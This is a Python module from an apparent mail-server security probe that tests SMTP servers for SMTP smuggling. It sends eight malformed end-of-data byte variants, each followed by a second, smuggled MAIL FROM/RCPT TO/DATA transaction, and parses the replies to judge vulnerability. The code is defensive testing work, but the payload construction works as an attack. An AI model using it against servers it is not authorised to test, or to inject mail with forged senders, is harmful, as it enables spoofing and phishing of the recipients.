r"""SMTP smuggling: the one module that writes raw bytes below aiosmtplib.

A message's content ends with ``<CR><LF>.<CR><LF>`` and nothing else
(RFC 5321 §4.1.1.4). A server that also takes a sloppier end of data (a
bare ``<LF>``, a bare ``<CR>``) disagrees with every strict server in front
of it about where a message ends: what the strict one passed on as content
the sloppy one reads as new commands, and a second, "smuggled" message with
a forged sender is accepted in the same transaction (SEC Consult, December
2023: Postfix, Sendmail, Exim, Microsoft and Cisco shipped fixes).

The check sends, per variant, one session whose DATA content is

    <carrier message> <variant> MAIL FROM:<from><CR><LF> RCPT TO:<to><CR><LF>
    DATA<CR><LF> <smuggled message> <CR><LF>.<CR><LF> QUIT<CR><LF>

Both messages are ordinary signed probe messages (each its own token).
A safe server reads everything up to the real ``<CR><LF>.<CR><LF>`` as one
message (the carrier, with the smuggled one inside its body) and answers
``250`` once, then ``221`` to our ``QUIT``; a vulnerable one ends the
carrier at the variant, answers the smuggled ``MAIL``, ``RCPT`` and
``DATA`` (``250``, ``250``, ``354``) and queues the smuggled message
(another ``250``). A server that refuses the sloppy bytes outright (Postfix
``smtpd_forbid_bare_newline = yes`` from a client it does not exempt:
``521 5.5.2 Error: bare <LF> received`` and a disconnect) refused the
carrier: safe too.

The pipelined ``QUIT`` is the sentinel: every reply before its ``221`` (or
the end of the connection) is an answer to our content, so no settle time
has to be guessed; a short one still bounds each reply after the first.

These bytes are written here, below aiosmtplib: its line-ending
normalisation and dot-stuffing would repair exactly what is tested (see
:class:`smtp_probe.probe.smtp.DataChannel`). Nothing else in the project
writes raw SMTP.
"""

from __future__ import annotations

import asyncio
import re
import time
from collections.abc import Mapping
from dataclasses import dataclass, field
from email.message import EmailMessage
from email.policy import SMTP as SMTP_POLICY
from types import MappingProxyType
from typing import Final

from smtp_probe.probe.credentials import AccessToken
from smtp_probe.probe.reply_reader import ReplyReader
from smtp_probe.probe.result import SmtpReport
from smtp_probe.probe.smtp import DataChannel, SmtpSendError
from smtp_probe.probe.spec import DnsSettings, SmtpServer
from smtp_probe.probe.submit import submit
from smtp_probe.probe.transcript import Transcript

VARIANTS: Final[Mapping[str, bytes]] = MappingProxyType(
    {
        "lf_dot_lf": b"\n.\n",
        "lf_dot_crlf": b"\n.\r\n",
        "crlf_dot_lf": b"\r\n.\n",
        "lf_dot_cr": b"\n.\r",
        "cr_dot_cr": b"\r.\r",
        "cr_dot_crlf": b"\r.\r\n",
        "crlf_dot_cr": b"\r\n.\r",
        "cr_dot_lf": b"\r.\n",
    }
)
"""Every non-standard end of data the check tries: each of ``<CR>``, ``<LF>``
and ``<CR><LF>`` before and after the dot, except the one standard pair.

* ``lf_dot_lf`` ``<LF>.<LF>``: a server that takes a bare ``<LF>`` as a line
  end (Postfix before 3.9 by default, Sendmail, many Unix MTAs).
* ``lf_dot_crlf`` ``<LF>.<CR><LF>``: the SEC Consult variant; Postfix 3.7 with
  its defaults (``smtpd_forbid_bare_newline = no``) ends DATA here.
* ``crlf_dot_lf`` ``<CR><LF>.<LF>``: a proper line end before the dot, a bare
  ``<LF>`` after it (Postfix before 3.9 by default too).
* ``lf_dot_cr`` ``<LF>.<CR>``: a bare ``<CR>`` after the dot (servers that
  end a line at either byte).
* ``cr_dot_cr`` ``<CR>.<CR>``: bare ``<CR>`` as line end (old Exchange, Cisco
  Secure Email took ``<CR>`` line ends).
* ``cr_dot_crlf`` ``<CR>.<CR><LF>``: Cisco Secure Email's variant.
* ``crlf_dot_cr`` ``<CR><LF>.<CR>``: a bare ``<CR>`` after a proper line end.
* ``cr_dot_lf`` ``<CR>.<LF>``: the last pair; a server splitting at either byte.

A strict server (Postfix 3.9+ by default, 3.7.10+ with
``smtpd_forbid_bare_newline = yes``) takes none of them.
"""
SETTLE_SECONDS: Final = 5.0
"""The longest wait for each reply after the first: the ``QUIT`` sentinel
normally ends the reading long before."""
_LEADING_DOT: Final = re.compile(rb"(?m)^\.")
_LINE_END: Final = re.compile(rb"\r\n|\r|\n")
_ESCAPES: Final = {0x0D: "<CR>", 0x0A: "<LF>"}
_CLOSING: Final = 221
_START_INPUT: Final = 354
_OK: Final = 250


def unknown_variants(names: tuple[str, ...] | list[str]) -> list[str]:
    """The names among ``names`` that are not in :data:`VARIANTS` (for config and CLI errors)."""
    return [name for name in names if name not in VARIANTS]


def escape(data: bytes) -> str:
    """``data`` readable: ``<CR>``, ``<LF>`` and other control bytes as ``<0x00>``."""
    return "".join(
        _ESCAPES.get(byte) or (chr(byte) if 32 <= byte < 127 else f"<0x{byte:02x}>")
        for byte in data
    )


def message_bytes(message: EmailMessage) -> bytes:
    """``message`` as DATA content: ``<CR><LF>`` line ends, dot-stuffed, no final line end.

    What aiosmtplib does with a message, done here because the bytes that
    follow (the variant) must stay exactly as they are.
    """
    raw = message.as_bytes(policy=SMTP_POLICY)
    stuffed = _LEADING_DOT.sub(b"..", _LINE_END.sub(b"\r\n", raw))
    return stuffed.removesuffix(b"\r\n")


def smuggled_commands(mail_from: str, rcpt_to: str) -> bytes:
    """The second transaction's commands, as a vulnerable server would read them."""
    return f"MAIL FROM:<{mail_from}>\r\nRCPT TO:<{rcpt_to}>\r\nDATA\r\n".encode()


def content(
    variant: bytes, carrier: bytes, smuggled: bytes, *, mail_from: str, rcpt_to: str
) -> bytes:
    """The whole DATA content of one variant's session, through the real end of data.

    ``<carrier><variant>MAIL FROM..DATA<CR><LF><smuggled><CR><LF>.<CR><LF>``,
    the two messages as :func:`message_bytes` makes them.
    """
    return variant.join((carrier, smuggled_commands(mail_from, rcpt_to))) + smuggled + b"\r\n.\r\n"


@dataclass(frozen=True, slots=True)
class Attempt:
    """What one variant's session saw: the replies to its content, in order."""

    variant: str
    replies: tuple[tuple[int, str], ...] = ()
    """Every reply after the content was written, the ``221`` to our ``QUIT`` included."""
    written: bool = False
    """The content went out (the server said ``354``)."""
    failure: SmtpSendError | None = None
    """Why the session failed: before the content (``written`` False: the run
    cannot judge this variant) or at its end of data (the carrier refused)."""
    report: SmtpReport = field(default_factory=SmtpReport)
    unanswered: bool = False
    """The content went out and no reply came in time (a hang-up is an answer, silence not)."""

    @property
    def carrier_accepted(self) -> bool:
        """The first reply to the content was ``250``: some message was queued."""
        return bool(self.replies) and self.replies[0][0] == _OK

    @property
    def smuggled_replies(self) -> tuple[tuple[int, str], ...]:
        """Replies after the first one and before our ``QUIT``'s ``221``: answers to smuggled commands."""
        answers: list[tuple[int, str]] = []
        for code, text in self.replies[1:]:
            if code == _CLOSING:
                break
            answers.append((code, text))
        return tuple(answers)

    @property
    def ended_early(self) -> bool:
        """The server answered the smuggled commands: it ended the carrier at the variant."""
        return bool(self.smuggled_replies)

    @property
    def smuggled_accepted(self) -> bool:
        """A ``250`` after the smuggled ``DATA``'s ``354``: the smuggled message was queued."""
        codes = [code for code, _text in self.smuggled_replies]
        return _START_INPUT in codes and _OK in codes[codes.index(_START_INPUT) + 1 :]

    def describe(self) -> str:
        """The replies as one line: ``250, 250, 250, 354, 250, 221``."""
        return ", ".join(str(code) for code, _text in self.replies) or "no reply"


class _Replies(ReplyReader[tuple[int, str]]):
    """Reads SMTP replies off a transport taken from aiosmtplib; any number, pipelined."""

    async def reply(self, timeout: float) -> tuple[int, str] | None:
        """The next whole reply; ``None`` once the server closed the connection without one.

        Raises:
            TimeoutError: no whole reply within ``timeout`` seconds.
        """
        async with asyncio.timeout(max(0.0, timeout)):
            return await self._next()

    def _take(self) -> tuple[int, str] | None:
        """One whole (possibly multi-line) reply off the buffer, if there is one."""
        lines: list[str] = []
        for raw, offset in self._lines():
            line = raw[:-1].rstrip(b"\r").decode("utf-8", "replace")
            head = line[:3]
            if not (head.isascii() and head.isdigit()):
                # Not SMTP: shown as it came, under code 0, so nothing is lost.
                del self._buffer[:offset]
                return 0, line
            lines.append(line[4:])
            if line[3:4] != "-":
                del self._buffer[:offset]
                return int(head), "\n".join(lines)
        return None


@dataclass
class _Writer:
    """The :data:`~smtp_probe.probe.smtp.RawContent` of one variant: write, then read every reply."""

    variant: str
    carrier: bytes
    smuggled: bytes
    """The two messages as DATA content (:func:`message_bytes`)."""
    carrier_subject: str
    smuggled_subject: str
    mail_from: str
    rcpt_to: str
    deadline: float
    written: bool = False
    unanswered: bool = False
    replies: list[tuple[int, str]] = field(default_factory=list)

    async def __call__(self, channel: DataChannel) -> tuple[int, str] | None:
        reader = _Replies()
        channel.transport.set_protocol(reader)
        channel.transport.write(self.data + b"QUIT\r\n")
        self.written = True
        self._show(channel)
        try:
            first = await reader.reply(channel.reply_timeout)
        except TimeoutError:
            self.unanswered = True
            raise
        if first is None:
            return None
        self._record(channel, first)
        while first[0] != _CLOSING:
            wait = min(SETTLE_SECONDS, self.deadline - time.monotonic())
            try:
                reply = await reader.reply(wait)
            except TimeoutError:
                channel.note(f"no further reply within {max(0.0, wait):.1f}s")
                break
            if reply is None:
                channel.note("the server closed the connection")
                break
            self._record(channel, reply)
            if reply[0] == _CLOSING:
                break
        return first

    @property
    def data(self) -> bytes:
        """The whole content, through the real end of data (see :func:`content`)."""
        return content(
            VARIANTS[self.variant],
            self.carrier,
            self.smuggled,
            mail_from=self.mail_from,
            rcpt_to=self.rcpt_to,
        )

    def _record(self, channel: DataChannel, reply: tuple[int, str]) -> None:
        self.replies.append(reply)
        channel.received(*reply)

    def _show(self, channel: DataChannel) -> None:
        """The content as sent: the messages summarised, every other byte escaped."""
        channel.sent(f"[carrier message: {len(self.carrier)} bytes, {self.carrier_subject}]")
        channel.sent(f"{escape(VARIANTS[self.variant])}   (end of data variant {self.variant})")
        for line in smuggled_commands(self.mail_from, self.rcpt_to).splitlines(keepends=True):
            channel.sent(escape(line))
        channel.sent(f"[smuggled message: {len(self.smuggled)} bytes, {self.smuggled_subject}]")
        channel.sent(escape(b"\r\n.\r\n"))
        channel.sent(escape(b"QUIT\r\n"))


async def try_variant(
    variant: str,
    server: SmtpServer,
    carrier: EmailMessage,
    smuggled: EmailMessage,
    *,
    mail_from: str,
    rcpt_to: str,
    transcript: Transcript,
    deadline: float,
    token: AccessToken | None = None,
    dns: DnsSettings | None = None,
) -> Attempt:
    """One session for ``variant``: connect, TLS, AUTH as configured, then the smuggling content.

    Never raises for what the server does: a failure is in
    :attr:`Attempt.failure` (before the content, or the carrier refused).
    """
    writer = _Writer(
        variant,
        message_bytes(carrier),
        message_bytes(smuggled),
        f"Subject: {carrier['Subject']}",
        f"Subject: {smuggled['Subject']}",
        mail_from,
        rcpt_to,
        deadline,
    )
    transcript.note(f"smuggling: variant {variant} ({escape(VARIANTS[variant])})")
    try:
        report = await submit(
            server,
            carrier,
            mail_from=mail_from,
            rcpt_to=rcpt_to,
            transcript=transcript,
            deadline=deadline,
            token=token,
            raw_content=writer,
            dns=dns or DnsSettings(),
        )
    except SmtpSendError as exc:
        replies = tuple(writer.replies)
        return Attempt(variant, replies, writer.written, exc, exc.report, writer.unanswered)
    return Attempt(variant, tuple(writer.replies), writer.written, None, report)


__all__ = [
    "SETTLE_SECONDS",
    "VARIANTS",
    "Attempt",
    "content",
    "escape",
    "message_bytes",
    "smuggled_commands",
    "try_variant",
    "unknown_variants",
]
